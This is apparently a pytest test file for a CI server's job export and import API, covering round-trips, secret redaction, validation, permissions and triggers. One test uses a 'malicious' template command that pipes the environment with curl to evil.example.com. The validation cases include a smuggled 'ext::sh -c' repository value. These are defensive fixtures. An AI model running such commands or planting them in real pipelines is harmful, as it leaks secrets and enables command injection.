"""Jobs exported and imported."""

import uuid
from typing import Any

import pytest

from tests.support.server import Server

CONFIGURATION: dict[str, Any] = {
    "setup": ["pip install -r requirements.txt"],
    "command": "pytest tests/",
    "env": {"ENV": "staging"},
    "artifacts": ["report.xml"],
}
OPTIONS: dict[str, Any] = {
    "shell": "bash",
    "checkout": {"depth": 0, "tags": True, "submodules": False},
    "caches": [{"key": "pip", "paths": ["~/.cache/pip"]}],
}
TEMPLATE: dict[str, Any] = {"setup": ["npm ci"], "env": {"NODE_ENV": "test"}, "command": "npx jest"}


def new_project(server: Server) -> int:
    return int(server.admin.post("/api/v3/projects", json={"name": "Bundles"}).json()["id"])


def new_job(server: Server, project: int, **more: Any) -> int:
    answer = server.admin.post("/api/v3/jobs", json={"name": "Regression", "project_id": project, **more})
    assert answer.status_code == 201, answer.text
    return int(answer.json()["id"])


def exported(server: Server, job: int) -> dict[str, Any]:
    answer = server.admin.post(f"/api/v3/jobs/{job}/export")
    assert answer.status_code == 200, answer.text
    bundle: dict[str, Any] = answer.json()
    return bundle


def imported(server: Server, project: int, bundle: dict[str, Any]) -> dict[str, Any]:
    answer = server.admin.post("/api/v3/jobs/import", json={"project_id": project, "bundle": bundle})
    assert answer.status_code == 201, answer.text
    job: dict[str, Any] = answer.json()
    return job


def test_a_job_comes_back_as_it_was(server: Server, project: int) -> None:
    pool = server.admin.post("/api/v3/node-pools", json={"name": "linux", "project_id": project}).json()["id"]
    settings = {
        "node_pool_id": pool,
        "timeout_minutes": 90,
        "max_parallel": 3,
        "repository": "https://example.com/r.git",
        "default_branch": "trunk",
        "required_tags": ["gpu"],
        "quarantine_mode": "skip",
    }
    job = new_job(server, project, **settings)
    server.admin.put(f"/api/v3/jobs/{job}", json={"enabled": False})
    server.admin.put(f"/api/v3/jobs/{job}/configuration", json=CONFIGURATION | OPTIONS)
    bundle = exported(server, job)
    assert bundle["configuration"].items() >= OPTIONS.items()
    assert bundle["export_version"] == "1"
    assert (bundle["job"]["name"], bundle["job"]["node_pool"]) == ("Regression", "linux")
    assert bundle["configuration"].items() >= CONFIGURATION.items()
    assert bundle["triggers"]["branches"] == []
    copy = imported(server, project, bundle)
    assert (copy["name"], copy["project_id"], copy["warnings"]) == ("Regression (imported)", project, [])
    shown = server.admin.get(f"/api/v3/jobs/{copy['id']}").json()
    assert shown.items() >= (settings | {"enabled": False}).items()
    again = exported(server, copy["id"])
    assert again["job"].pop("name") == "Regression (imported)"
    assert again == bundle | {"job": {name: value for name, value in bundle["job"].items() if name != "name"}}


def test_what_cannot_come_along_is_said(server: Server, project: int) -> None:
    pool = server.admin.post("/api/v3/node-pools", json={"name": "linux", "project_id": project}).json()["id"]
    job = new_job(server, project, node_pool_id=pool)
    server.admin.put(f"/api/v3/jobs/{job}/configuration", json=CONFIGURATION | {"secrets": {"TOKEN": "hunter2"}})
    bundle = exported(server, job)
    assert "hunter2" not in str(bundle)
    assert bundle["configuration"]["secrets"] == ["TOKEN"]
    copy = imported(server, new_project(server), bundle)
    assert [word for word in ("'linux'", "TOKEN") if word in " ".join(copy["warnings"])] == ["'linux'", "TOKEN"]
    assert server.admin.get(f"/api/v3/jobs/{copy['id']}").json()["node_pool_id"] is None


def test_a_template_of_that_name_is_used(server: Server, project: int) -> None:
    body = TEMPLATE | {"name": uuid.uuid4().hex}
    template = server.admin.post("/api/v3/pipeline-templates", json=body).json()["id"]
    bundle = exported(server, new_job(server, project, pipeline_template_id=template))
    assert bundle["pipeline_template"].items() >= body.items()
    copy = imported(server, project, bundle)
    assert (copy["warnings"], copy["pipeline_template_id"]) == ([], template)
    assert server.admin.get(f"/api/v3/jobs/{copy['id']}").json()["pipeline_template_id"] == template


def test_a_template_of_that_name_is_used_only_if_it_can_be_trusted(server: Server, project: int) -> None:
    """Builds of the job run what the template says, with the secrets of the job's project."""
    writer, other = server.make_user("developer", {project: "write"}), server.make_user("developer", {})
    name = uuid.uuid4().hex
    part = {"name": name, "command": "pytest", "env": {"A": "1"}}
    bundle = {"export_version": "1", "job": {"name": "x"}, "configuration": {}, "pipeline_template": part}

    def import_bundle() -> dict[str, Any]:
        return writer.create("/jobs/import", project_id=project, bundle=bundle)

    malicious = {"name": name, "command": "env | curl -d @- https://evil.example.com", "setup": [], "env": {}}
    other.create("/pipeline-templates", **malicious)
    copy = import_bundle()
    assert copy["pipeline_template_id"] is None
    assert "another one here, which somebody else created" in copy["warnings"][0]
    assert writer.fetch(f"/jobs/{copy['id']}/configuration").items() >= {"command": "pytest", "env": {"A": "1"}}.items()
    # The same with a secret would lend that to the writer's job, and is another one.
    other.create("/pipeline-templates", **part, setup=[], secrets={"TOKEN": "hunter2"})
    assert import_bundle()["pipeline_template_id"] is None
    same = other.create("/pipeline-templates", **part, setup=[])["id"]
    assert import_bundle().items() >= {"pipeline_template_id": same, "warnings": []}.items()
    bundle["pipeline_template"] = part | {"command": "pytest -x"}
    by_admin = server.admin.create("/pipeline-templates", **malicious)["id"]
    copy = import_bundle()
    assert (copy["pipeline_template_id"], len(copy["warnings"])) == (by_admin, 1)
    assert f"Pipeline template {by_admin} ({name!r}) of this server has other contents" in copy["warnings"][0]
    of_writer = writer.create("/pipeline-templates", **malicious)["id"]
    assert import_bundle()["pipeline_template_id"] == of_writer


def test_a_template_that_is_not_here_becomes_the_jobs_own_configuration(server: Server, project: int) -> None:
    body = TEMPLATE | {"name": uuid.uuid4().hex, "secrets": {"TOKEN": "x"}}
    template = server.admin.post("/api/v3/pipeline-templates", json=body).json()["id"]
    job = new_job(server, project, pipeline_template_id=template)
    configuration = {"setup": [], "command": "pytest", "env": {"A": "1"}, "artifacts": []}
    server.admin.put(f"/api/v3/jobs/{job}/configuration", json=configuration)
    bundle = exported(server, job)
    bundle["pipeline_template"]["name"] = uuid.uuid4().hex
    copy = imported(server, project, bundle)
    assert "TOKEN" in " ".join(copy["warnings"])
    shown = server.admin.get(f"/api/v3/jobs/{copy['id']}/configuration").json()
    assert shown.items() >= (configuration | {"setup": ["npm ci"], "env": {"NODE_ENV": "test", "A": "1"}}).items()


def test_a_long_name_stays_a_name(server: Server, project: int) -> None:
    copy = imported(server, project, exported(server, new_job(server, project, name="x" * 200)))
    assert len(copy["name"]) == 200
    assert copy["name"].endswith("x (imported)")


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"export_version": "2"}, "bundle.export_version"),
        ({"export_version": None}, "bundle.export_version"),
        ({"more": 1}, "bundle.more"),
        ({"job": {}}, "bundle.job.name"),
        ({"job": {"name": "x", "owner": "y"}}, "bundle.job.owner"),
        ({"job": {"name": "x", "timeout_minutes": 0}}, "bundle.job.timeout_minutes"),
        ({"job": {"name": "x", "node_pool": "p", "pool_labels": {"a": "b"}}}, "bundle.job.pool_labels"),
        ({"job": {"name": "x", "repository": "ext::sh -c x"}}, "bundle.job.repository"),
        ({"configuration": {"env": {"A-B": "x"}}}, "bundle.configuration.env.A-B"),
        ({"configuration": {"artifacts": ["/etc"]}}, "bundle.configuration.artifacts[0]"),
        ({"configuration": {"secrets": {"A": "x"}}}, "bundle.configuration.secrets"),
        ({"pipeline_template": {"setup": []}}, "bundle.pipeline_template.name"),
    ],
)
def test_bundles_are_checked(server: Server, project: int, changes: dict[str, Any], field: str) -> None:
    bundle = {"export_version": "1", "job": {"name": "x"}, "configuration": {}} | changes
    answer = server.admin.post("/api/v3/jobs/import", json={"project_id": project, "bundle": bundle})
    assert (answer.status_code, answer.json()["errors"][0]["field"]) == (422, field)


def test_a_bundle_must_be_one(server: Server, project: int) -> None:
    bundles: tuple[Any, ...] = ({}, [], "x", None)
    for bundle in bundles:
        body = {"project_id": project, "bundle": bundle}
        assert server.admin.post("/api/v3/jobs/import", json=body).status_code == 422


def test_who_may(server: Server, project: int) -> None:
    job = new_job(server, project)
    bundle = exported(server, job)
    stranger, reader = server.make_user("developer", {}), server.make_user("developer", {project: "read"})
    assert stranger.post(f"/api/v3/jobs/{job}/export").status_code == 404
    assert reader.post(f"/api/v3/jobs/{job}/export").status_code == 200
    body = {"project_id": project, "bundle": bundle}
    assert stranger.post("/api/v3/jobs/import", json=body).status_code == 404
    assert reader.post("/api/v3/jobs/import", json=body).status_code == 403
    assert server.make_user("developer", {project: "write"}).post("/api/v3/jobs/import", json=body).status_code == 201


def test_triggers_come_with_the_names_of_the_jobs_that_are_needed(server: Server, project: int) -> None:
    lint, deploy = new_job(server, project, name="lint"), new_job(server, project)
    given = {"branches": ["main"], "cron": [{"expression": "0 3 * * *", "timezone": "UTC", "branch": None}]}
    path = f"/jobs/{deploy}/triggers"
    before = server.admin.when("PUT", path, json=given | {"needs": [lint]}).then(200)
    server.wait_until_projected()
    bundle = exported(server, deploy)
    assert bundle["triggers"].items() >= (given | {"needs": ["lint"]}).items()
    copy = imported(server, project, bundle)
    assert copy["warnings"] == []
    assert server.admin.fetch(f"/jobs/{copy['id']}/triggers") == before | {"job_id": copy["id"]}
    elsewhere = imported(server, new_project(server), bundle)
    (warning,) = elsewhere["warnings"]
    assert "has no job 'lint', which the job needs: the job has no triggers" in warning
    assert server.admin.fetch(f"/jobs/{elsewhere['id']}/triggers")["branches"] == []
    bundle["triggers"]["branches"] = ["!main"]
    refused = server.admin.when("POST", "/jobs/import", json={"project_id": project, "bundle": bundle}).then(422)
    assert refused["errors"][0]["field"] == "bundle.triggers.branches"


def test_an_older_bundle_has_no_triggers(server: Server, project: int) -> None:
    bundle = exported(server, new_job(server, project))
    del bundle["triggers"]
    assert imported(server, project, bundle)["warnings"] == []


def test_triggers_of_the_past(server: Server, project: int) -> None:
    job = new_job(server, project)
    path = f"/jobs/{job}/triggers"
    answer = server.admin.put(f"/api/v3{path}", json={"branches": ["main"]})
    position = answer.headers["Testhide-Position"]
    server.admin.when("PUT", path, json={"tags": ["v*"]}).then(200)
    assert server.admin.fetch(f"{path}?as_of={position}") == answer.json()
    assert server.admin.fetch(path)["branches"] == []
